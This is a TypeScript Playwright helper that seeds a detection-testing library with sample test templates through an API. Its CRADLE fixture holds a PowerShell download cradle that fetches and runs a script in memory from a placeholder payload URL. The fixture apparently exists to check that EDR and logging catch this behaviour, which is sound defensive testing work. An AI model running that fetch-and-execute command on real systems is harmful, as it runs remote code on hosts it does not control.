import type { APIRequestContext } from '@playwright/test';
import { API_HEADERS } from './auth-helpers.js';
import { expect } from './fixtures.js';

/** Library seeding shared by the library specs: templates through the API. */

export interface Template {
  id: string;
  name: string;
  version: number;
  [key: string]: unknown;
}

/** A PowerShell test tagged with a sub-technique: found by a T1059 search. */
export const CRADLE = {
  name: 'PowerShell download cradle',
  description: 'Downloads and runs a script **in memory**, like most commodity loaders.',
  objective: 'Check that script block logging catches in-memory execution.',
  procedure_md: '1. Start a PowerShell session\n2. Run the command\n3. Note the time',
  attack_ids: ['T1059.001'],
  platforms: ['Windows'],
  tags: ['loader'],
  executor: {
    name: 'powershell',
    command: 'IEX (New-Object Net.WebClient).DownloadString("#{script_url}")',
    cleanup_command: 'Remove-Item #{temp_file} -ErrorAction Ignore',
    elevation_required: false,
  },
  input_arguments: [
    {
      name: 'script_url',
      description: 'Script to fetch',
      type: 'url',
      default: 'https://example.org/payload.ps1',
    },
  ],
  detection_refs: [
    {
      kind: 'sigma',
      ref_id: '3b6ab547-8ec2-4991-b9d2-2b06702a48d7',
      title: 'PowerShell Download Cradle',
      url: 'https://github.com/SigmaHQ/sigma',
    },
  ],
  expected_outcomes: [
    { layer: 'edr', expectation: 'alert' },
    { layer: 'siem', expectation: 'log' },
  ],
};

/** Tagged with a revoked technique: flagged for review. */
export const COMPILE = {
  name: 'Compile a payload on the host',
  attack_ids: ['T1500'],
  platforms: ['Linux', 'macOS'],
  tags: ['payload'],
  executor: { name: 'bash', command: 'gcc -o /tmp/a /tmp/a.c' },
};

/** What the editor spec creates by hand: found by a T1059 search and by the Linux facet. */
export const UNIX_SHELL = {
  name: 'Unix shell discovery',
  attack_ids: ['T1059'],
  platforms: ['Linux'],
  procedure_md: 'Run it in a **login shell**.',
  executor: { name: 'bash', command: 'uname -a' },
};

export async function createTemplate(api: APIRequestContext, body: object): Promise<Template> {
  const res = await api.post('/api/library/tests', { headers: API_HEADERS, data: body });
  expect(res.status(), await res.text()).toBe(201);
  return (await res.json()) as Template;
}

export async function getTemplate(api: APIRequestContext, id: string): Promise<Template> {
  const res = await api.get(`/api/library/tests/${id}`, { headers: API_HEADERS });
  expect(res.status(), await res.text()).toBe(200);
  return (await res.json()) as Template;
}
